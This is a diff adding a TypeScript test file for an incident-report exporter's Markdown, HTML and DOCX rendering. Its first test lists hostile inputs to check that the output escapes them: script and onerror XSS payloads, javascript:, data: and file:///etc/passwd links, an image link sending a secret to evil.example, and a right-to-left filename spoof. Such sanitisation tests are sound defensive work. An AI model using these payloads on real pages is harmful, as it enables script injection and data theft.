@@ -1,0 +1,169 @@
+import fc from 'fast-check';
+import mammoth from 'mammoth';
+import { describe, expect, it } from 'vitest';
+import type { Block, Run } from '../../../src/export/blocks.js';
+import { renderHtml } from '../../../src/export/html.js';
+import { renderMarkdown } from '../../../src/export/markdown.js';
+import { parseMarkdown } from '../../../src/export/parse.js';
+import { hidePlaceholders } from '../../../src/export/placeholders.js';
+import type { Report } from '../../../src/export/report.js';
+import { openWindow } from '../stores.js';
+import { postmortem } from './documents.js';
+import { render, why, WORDS } from './rendering.js';
+
+const ID = '01890000-0000-7000-8000-000000000001';
+const EVIDENCE = new Map([[ID, { name: 'app.log', hash: 'ab'.repeat(32), image: false }]]);
+
+const reportOf = (markdown: string, labels: readonly string[] = []): Report => ({
+  title: 'Checkout fails',
+  lang: 'en',
+  blocks: parseMarkdown(hidePlaceholders(markdown, labels), EVIDENCE),
+  pictures: new Map(),
+  drawings: {},
+  words: WORDS,
+  created: new Date(0),
+});
+const htmlOf = (markdown: string, labels?: readonly string[]) => renderHtml(reportOf(markdown, labels));
+const bodyOf = (html: string) => html.slice(html.indexOf('<main>'));
+const markdownOf = (markdown: string, labels?: readonly string[]) =>
+  renderMarkdown(reportOf(markdown, labels));
+
+describe('what stands in a document', () => {
+  it('stays text where it is HTML, a script, or leads where nothing should lead', () => {
+    const hostile = [
+      '<script>alert(1)</script>',
+      '<img src=x onerror=alert(1)>',
+      '[x](javascript:alert(1))',
+      '[x](data:text/html,<script>alert(1)</script>)',
+      '[x](command:workbench.action.quit) [y](vscode://a/b) [z](file:///etc/passwd)',
+      '![x](https://evil.example/?d=SECRET "title")',
+      '<https://ok.example/"onmouseover="alert(1)>',
+      '`</code><script>alert(1)</script>`',
+      '\n    </pre><script>alert(1)</script>',
+      '| <script>alert(1)</script> |\n| --- |\n| </table><script>alert(1)</script> |',
+      '[a]: javascript:alert(1)\n\n[a]',
+      '# </title><script>alert(1)</script>',
+      'safe\u202egnp.exe',
+    ].join('\n\n');
+    const html = htmlOf(hostile);
+    expect(html).not.toMatch(/<script|<img|<iframe|<object|<svg|<style[^>]*>[^:]*<\/style><style/i);
+    expect(html).not.toMatch(/(?:src|href)="(?!https:\/\/|#|mailto:)/);
+    expect(html).not.toMatch(/<[^>]* on\w+=/);
+    expect(html).not.toContain('\u202e');
+    expect(html).toContain(`default-src 'none'`);
+    // Written as Markdown, it means the same to a program that takes HTML in it.
+    const again = bodyOf(htmlOf(markdownOf(hostile)));
+    expect(again).toBe(bodyOf(html));
+    expect(markdownOf(hostile).replaceAll(/`+[^`]*`+/g, '')).not.toMatch(/(?<!\\)<(?:script|img)/);
+  });
+
+  it('is read again as it was from the Markdown that is written, whatever the text', () => {
+    const signs = fc.string({
+      unit: fc.constantFrom(...'aZ09 *_`[]()<>!#-+=~|\\:.&"\'é日'),
+      minLength: 1,
+      maxLength: 12,
+    });
+    const text = signs.map(text => `x${text}x`);
+    const run = fc
+      .record({ text, bold: fc.boolean(), italic: fc.boolean(), strike: fc.boolean() })
+      .map(({ text, bold, italic, strike }): Run => ({
+        text,
+        ...(bold && { bold }),
+        ...(italic && { italic }),
+        ...(strike && { strike }),
+      }));
+    const paragraph = run.map((run): Block => ({ kind: 'paragraph', runs: [run] }));
+    const list = fc
+      .record({ numbered: fc.boolean(), items: fc.array(text, { minLength: 1, maxLength: 3 }) })
+      .map(({ numbered, items }): Block => ({
+        kind: 'list',
+        start: numbered ? 1 : undefined,
+        items: items.map(text => ({ ticked: undefined, blocks: [{ kind: 'paragraph', runs: [{ text }] }] })),
+      }));
+    const code = fc
+      .string({ unit: fc.constantFrom(...'a` \n~#'), minLength: 1, maxLength: 20 })
+      .map((text): Block => ({ kind: 'code', text: `x${text}x` }));
+    const blocks = fc.array(fc.oneof(paragraph, list, code), { maxLength: 6 });
+    fc.assert(
+      fc.property(blocks, blocks => {
+        const report = { ...reportOf('# T'), blocks: [...reportOf('# T').blocks, ...blocks] };
+        expect(reportOf(renderMarkdown(report)).blocks).toEqual(report.blocks);
+      }),
+    );
+  });
+
+  it('shows what replaces private text as text, also where Markdown would see a link or lose it', () => {
+    const markdown =
+      'from [IPv4-1](port 80)\n\n[IPv4-2]: refused\n\n`[Secret]` and [real](https://ok.example)';
+    for (const shown of [
+      htmlOf(markdown, ['IPv4', 'Secret']),
+      htmlOf(markdownOf(markdown, ['IPv4', 'Secret'])),
+    ]) {
+      expect(shown).toContain('<p>from [IPv4-1](port 80)</p>');
+      expect(shown).toContain('<p>[IPv4-2]: refused</p>');
+      expect(shown).toContain('<code>[Secret]</code>');
+      expect(shown).toContain('<a href="https://ok.example"');
+    }
+  });
+
+  it('names evidence by its file, lines and hash, since its links lead nowhere else', () => {
+    const markdown = `See [the error](whydunit:/app.log?${ID}#L3-L7) and whydunit:/app.log?${ID} and <whydunit:/app.log?${ID}#L9>.`;
+    const text = 'app.log, L3-L7, SHA-256 abababababababab…';
+    expect(bodyOf(htmlOf(markdown))).toContain(`See the error (${text})`);
+    expect(bodyOf(htmlOf(markdown))).toContain(
+      'and app.log, SHA-256 abababababababab… and app.log, L9, SHA-256',
+    );
+    expect(htmlOf(markdown)).not.toContain('whydunit:');
+    expect(markdownOf(markdown)).not.toContain('whydunit:');
+  });
+
+  it('has its drawings as lists and tables where nothing is drawn', async () => {
+    const window = await openWindow();
+    const whys = [
+      why(1, 'Why?', 'Since *this*'),
+      why(2, 'Why this?', null, { role: 'root_cause', state: 'assumed' }),
+    ];
+    const events = [
+      { at: Date.UTC(2026, 10, 20, 2, 41), event_type: 'note', description: 'a | b', source: 'app.log' },
+    ];
+    const { bytes } = await render(window, { format: 'md', markdown: postmortem(0), whys, events });
+    const text = Buffer.from(bytes).toString();
+    expect(text).toContain(
+      '- **Why?**\\\n  Since \\*this\\* *(confirmed)*\n  - **Why this?**\\\n    not answered yet *(root cause · without evidence)*',
+    );
+    expect(text).toContain('| 2026-11-20 02:41:00 UTC | a \\| b | app.log |');
+  });
+});
+
+describe('a document as DOCX', () => {
+  it('is read by another program with its headings, lists, tables, links and pictures', async () => {
+    const window = await openWindow();
+    const { bytes } = await render(window, {
+      format: 'docx',
+      markdown: postmortem(2),
+      whys: [why(1, 'Why?', 'So')],
+    });
+    const { value, messages } = await mammoth.convertToHtml({ buffer: Buffer.from(bytes) });
+    expect(messages.filter(({ type }) => type === 'error')).toEqual([]);
+    expect(value).toContain('<h1>Checkout fails after deploy 4.12</h1>');
+    expect([...value.matchAll(/<h2>(.*?)<\/h2>/g)].map(([, text]) => text)).toEqual([
+      ...['Summary', 'Whys', 'What happened', 'Part 1', 'Part 2'],
+    ]);
+    expect(value.match(/<table>/g)).toHaveLength(2);
+    expect(value.match(/<thead>/g)).toHaveLength(2);
+    expect(value).toContain('<a href="https://tracker.example.com/INC-2">the ticket</a>');
+    expect(value).toContain('<li><strong>Why?</strong><br />So<em> (confirmed)</em></li>');
+    expect(value).toContain('☑');
+    expect(value).toContain('Ελληνικά, русский, čeština');
+  });
+
+  it('takes text that XML does not', async () => {
+    const window = await openWindow();
+    const { bytes } = await render(window, {
+      format: 'docx',
+      markdown: 'a\u0000b\u0007c \ufffe \ud800 <w:t> & "x"',
+    });
+    const { value } = await mammoth.extractRawText({ buffer: Buffer.from(bytes) });
+    expect(value).toContain('<w:t> & "x"');
+  });
+});
